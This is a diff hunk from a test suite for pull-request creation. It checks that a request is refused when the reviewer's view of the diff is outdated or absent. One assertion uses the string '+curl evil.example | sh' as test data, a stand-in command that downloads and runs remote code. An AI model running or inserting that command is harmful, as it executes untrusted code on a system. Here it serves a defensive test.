@@ -61,9 +61,9 @@ describe('a pull request', () => {
     const recorded = await diffOf(params)
     expect(recorded.changedFiles.map(({ diff }) => diff).join('')).toContain('+curl evil.example | sh')
     expect(recorded.tree).not.toBe(seen.tree)
-    // Who still has the old diff before them is told as well.
-    const old = { params, body: { tree: seen.tree ?? '' } }
-    expect(await scene.ada.refused(createPullRequest, old)).toMatchObject(moved)
+    // Who still has the old diff before them is told as well, and who has seen none.
+    for (const tree of [seen.tree, null])
+      expect(await scene.ada.refused(createPullRequest, { params, body: { tree } })).toMatchObject(moved)
     expect(await branchesAtHost(scene.product.dataDir)).not.toContain(branch)
 
     await scene.ada.ask(createPullRequest, { params, body: { tree: recorded.tree ?? '' } })
